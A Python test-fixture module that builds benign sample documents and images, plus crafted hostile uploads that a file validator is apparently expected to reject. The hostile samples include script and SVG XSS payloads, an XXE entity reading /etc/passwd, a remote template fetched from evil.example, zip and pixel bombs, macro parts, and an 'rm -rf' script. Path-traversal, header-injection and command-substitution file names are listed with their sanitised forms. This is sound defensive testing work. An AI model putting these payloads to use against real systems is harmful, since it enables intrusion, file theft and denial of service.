"""Files that pretend, made in code, and honest ones beside them."""

from __future__ import annotations

import struct
import zipfile
import zlib
from collections.abc import Mapping
from dataclasses import dataclass
from io import BytesIO

WORD = "wordprocessingml.document"
SHEET = "spreadsheetml.sheet"
_MAIN = {WORD: "word/document.xml", SHEET: "xl/workbook.xml"}
OLD_OFFICE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


@dataclass(frozen=True)
class Zeros:
    """So many megabytes of nothing, which pack well."""

    count: int


def office(
    kind: str, *, main: str = "", extra: Mapping[str, bytes | Zeros] | None = None, types: str = ""
) -> bytes:
    """A small office file; ``main`` overrides the main part's content type, ``extra`` adds parts."""
    declared = main or f"application/vnd.openxmlformats-officedocument.{kind}.main+xml"
    listing = f'<Types><Override PartName="/{_MAIN[kind]}" ContentType="{declared}"/>{types}</Types>'
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", listing)
        archive.writestr(_MAIN[kind], b"<x/>")
        for name, content in (extra or {}).items():
            with archive.open(name, "w") as part:
                for _ in range(content.count if isinstance(content, Zeros) else 1):
                    part.write(bytes(1 << 20) if isinstance(content, Zeros) else content)
    return out.getvalue()


def encrypted_parts(kind: str) -> bytes:
    """An office file whose parts say that they need a password."""
    data = bytearray(office(kind))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(wide: int = 1, tall: int = 1) -> bytes:
    """One black dot, or what says that it is larger."""
    header = struct.pack(">IIBBBBB", wide, tall, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", header)
        + _chunk(b"IDAT", zlib.compress(b"\0\0"))
        + _chunk(b"IEND", b"")
    )


def jpeg(wide: int = 1, tall: int = 1) -> bytes:
    """The skeleton of a photograph: application segment, frame, scan, end."""
    app = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\0" + b"\0" * 9
    frame = b"\xff\xc0" + struct.pack(">HBHHB", 11, 8, tall, wide, 1) + b"\x01\x11\x00"
    return (
        b"\xff\xd8" + app + frame + b"\xff\xda" + struct.pack(">H", 8) + b"\x01\x01\0\0\x3f\0" + b"\0\xff\xd9"
    )


def webp() -> bytes:
    """The container of a picture."""
    body = b"WEBPVP8 " + struct.pack("<I", 4) + b"\0" * 4
    return b"RIFF" + struct.pack("<I", len(body)) + body


def pdf(extra: bytes = b"") -> bytes:
    """The skeleton of a document."""
    return b"%PDF-1.7\n1 0 obj <</Type /Catalog>> endobj\n" + extra + b"trailer <</Root 1 0 R>>\n%%EOF\n"


HONEST = {
    "Báo cáo.pdf": pdf(),
    "Báo cáo.DOCX": office(WORD, extra={"word/embeddings/Microsoft_Excel_Sheet.xlsx": b"PK"}),
    "Biểu số 1.xlsx": office(SHEET),
    "ảnh.png": png(),
    "ảnh.jpg": jpeg(),
    "ảnh.jpeg": jpeg(),
    "ảnh.webp": webp(),
    "ghi chú.txt": "Đã làm xong.\n".encode(),
    "số liệu.csv": "\ufeffđơn vị;số\nPhòng Tư pháp;12\n".encode(),
}

_SCRIPT = b"<script>alert(1)</script>"
_SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
_HTML = b"<!DOCTYPE html><html><body>" + _SCRIPT
_EXE = b"MZ" + b"\0" * 200
_ELF = b"\x7fELF" + b"\0" * 200

#: (name, content, code of the refusal)
_READS_A_FILE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
_FETCHED_TEMPLATE = (
    b'<Relationships><Relationship Id="r" Type="http://x/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="https://evil.example/m.dotm" TargetMode="External"/></Relationships>'
)
HOSTILE: list[tuple[str, bytes, str]] = [
    ("x.svg", _SVG, "evidence_kind"),
    ("x.html", _HTML, "evidence_kind"),
    ("x.htm", _HTML, "evidence_kind"),
    ("x.xml", b"<?xml version='1.0'?><x/>", "evidence_kind"),
    ("x.hta", _HTML, "evidence_kind"),
    ("x.lnk", b"L\0\0\0", "evidence_kind"),
    ("x.exe", _EXE, "evidence_kind"),
    ("x.iso", b"\0" * 100, "evidence_kind"),
    ("x.js", b"alert(1)", "evidence_kind"),
    ("x.zip", office(WORD), "evidence_kind"),
    ("x.docm", office(WORD), "evidence_kind"),
    ("x.doc", OLD_OFFICE, "evidence_kind"),
    ("x", pdf(), "evidence_kind"),
    ("x.pdf.exe", pdf(), "evidence_kind"),
    ("x\u202efdp.exe", pdf(), "evidence_kind"),
    ("x.pdf\x00.exe", pdf(), "evidence_kind"),
    ("x.pdf", b"", "evidence_empty"),
    ("x.pdf", _HTML, "evidence_mismatch"),
    ("x.pdf", _EXE, "evidence_mismatch"),
    ("x.pdf", _HTML + pdf(), "evidence_mismatch"),
    ("x.pdf", png(), "evidence_mismatch"),
    ("x.pdf", b"%PDF-1.7\nnothing more", "evidence_damaged"),
    ("x.pdf", b"%PDF-x\n%%EOF", "evidence_damaged"),
    ("x.pdf", pdf(b"<</Encrypt 5 0 R>>"), "evidence_encrypted"),
    ("x.docx", _EXE, "evidence_mismatch"),
    ("x.docx", _ELF, "evidence_mismatch"),
    ("x.docx", OLD_OFFICE, "evidence_encrypted"),
    ("x.docx", encrypted_parts(WORD), "evidence_encrypted"),
    ("x.docx", office(SHEET), "evidence_mismatch"),
    ("x.xlsx", office(WORD), "evidence_mismatch"),
    ("x.docx", office(WORD, extra={"word/vbaProject.bin": b"x"}), "evidence_macro"),
    ("x.xlsx", office(SHEET, extra={"xl/macrosheets/sheet1.xml": b"x"}), "evidence_macro"),
    ("x.xlsx", office(SHEET, extra={"xl/activeX/activeX1.xml": b"x"}), "evidence_macro"),
    ("x.docx", office(WORD, extra={"word/embeddings/oleObject1.bin": b"x"}), "evidence_macro"),
    ("x.docx", office(WORD, extra={"word/media/run.exe": _EXE}), "evidence_macro"),
    (
        "x.docx",
        office(WORD, main="application/vnd.ms-word.document.macroEnabled.main+xml"),
        "evidence_macro",
    ),
    ("x.docx", office(WORD)[:-30], "evidence_damaged"),
    ("x.docx", b"PK\x03\x04" + b"\0" * 100, "evidence_damaged"),
    ("x.docx", office(WORD, extra={"../../etc/passwd": b"x"}), "evidence_damaged"),
    ("x.docx", office(WORD, extra={"/etc/passwd": b"x"}), "evidence_damaged"),
    ("x.docx", office(WORD, extra={"word/styles.xml": _READS_A_FILE}), "evidence_damaged"),
    ("x.xlsx", office(SHEET, extra={"xl/_rels/workbook.xml.rels": _READS_A_FILE}), "evidence_damaged"),
    (
        "x.docx",
        office(WORD, extra={"word/styles.xml": _READS_A_FILE.decode().encode("utf-16")}),
        "evidence_damaged",
    ),
    ("x.docx", office(WORD, extra={"word/_rels/settings.xml.rels": _FETCHED_TEMPLATE}), "evidence_macro"),
    ("x.docx", office(WORD, extra={"word/media/grows.xml": Zeros(501)}), "evidence_unpacked"),
    ("x.png", png(50_000, 50_000), "evidence_pixels"),
    ("x.jpg", jpeg(65_535, 65_535), "evidence_pixels"),
    ("x.png", _SVG, "evidence_mismatch"),
    ("x.png", jpeg(), "evidence_mismatch"),
    ("x.png", png() + _HTML, "evidence_damaged"),
    ("x.png", png()[:20], "evidence_damaged"),
    ("x.jpg", b"\xff\xd8\xff" + _HTML, "evidence_damaged"),
    ("x.jpg", b"GIF89a" + b"\0" * 30, "evidence_mismatch"),
    ("x.webp", webp() + b"\0" * 40, "evidence_damaged"),
    ("x.webp", b"RIFF\0\0\0\0WAVEfmt " + b"\0" * 20, "evidence_mismatch"),
    ("x.txt", _HTML, "evidence_mismatch"),
    ("x.txt", b"  \n" + _SVG, "evidence_mismatch"),
    ("x.csv", b"#!/bin/sh\nrm -rf x", "evidence_mismatch"),
    ("x.txt", _EXE, "evidence_mismatch"),
    ("x.txt", b"a\0b", "evidence_not_text"),
    ("x.txt", "Đã làm".encode("utf-16"), "evidence_not_text"),
    ("x.csv", b"\xff\xfe\xfd khong phai utf-8", "evidence_not_text"),
    ("x.txt", "cắt ngang ế".encode()[:-1], "evidence_not_text"),
]

#: Name as sent, and as it is kept.
NAMES = [
    ("../../etc/passwd.txt", "passwd.txt"),
    ("..\\..\\windows\\win.txt", "win.txt"),
    ("/etc/shadow.txt", "shadow.txt"),
    ("C:\\Users\\a\\b.txt", "b.txt"),
    ("a\x00b.txt", "ab.txt"),
    ("a\r\nSet-Cookie: x=1.txt", "a Set-Cookie x=1.txt"),
    ("a\nb.txt", "a b.txt"),
    ("a\tb.txt", "a b.txt"),
    ("báo cáo\u202etxt.exe.txt", "báo cáotxt.exe.txt"),
    ("\u200bẩn\ufeff.txt", "ẩn.txt"),
    ("a\u2028b.txt", "a b.txt"),
    ("a\x85b.txt", "a b.txt"),
    ("a\ud800b.txt", "ab.txt"),
    ("  a  b .txt ", "a b .txt"),
    ("...a.txt...", "a.txt"),
    (".htaccess.txt", "htaccess.txt"),
    ("a.txt.", "a.txt"),
    ("con.txt", "_con.txt"),
    ("NUL.txt", "_NUL.txt"),
    ("com1.txt", "_com1.txt"),
    ("lpt9.x.txt", "_lpt9.x.txt"),
    ("console.txt", "console.txt"),
    ('a"b.txt', "a b.txt"),
    ("a<b>|?*:c.txt", "a b c.txt"),
    ("Ba\u0301o ca\u0301o.txt", "Báo cáo.txt"),
    ("Đề án 06.txt", "Đề án 06.txt"),
    ("a;b=c%0d%0a.txt", "a;b=c%0d%0a.txt"),
    ("%2e%2e%2fa.txt", "%2e%2e%2fa.txt"),
    ("a" * 4096 + ".txt", "a" * 196 + ".txt"),
    ("ế" * 300 + ".TXT", "ế" * 196 + ".TXT"),
    ("a" * 300, "a" * 200),
    ("a." + "b" * 300, ("a." + "b" * 300)[:200]),
    ("-rf.txt", "-rf.txt"),
    ("$(id).txt", "$(id).txt"),
    ("`id`.txt", "`id`.txt"),
    ("//server/share/a.txt", "a.txt"),
    ("a/..", "tep"),
    ("", "tep"),
    ("/", "tep"),
    ("\u202e\u200b", "tep"),
    ("😀.txt", "😀.txt"),
]
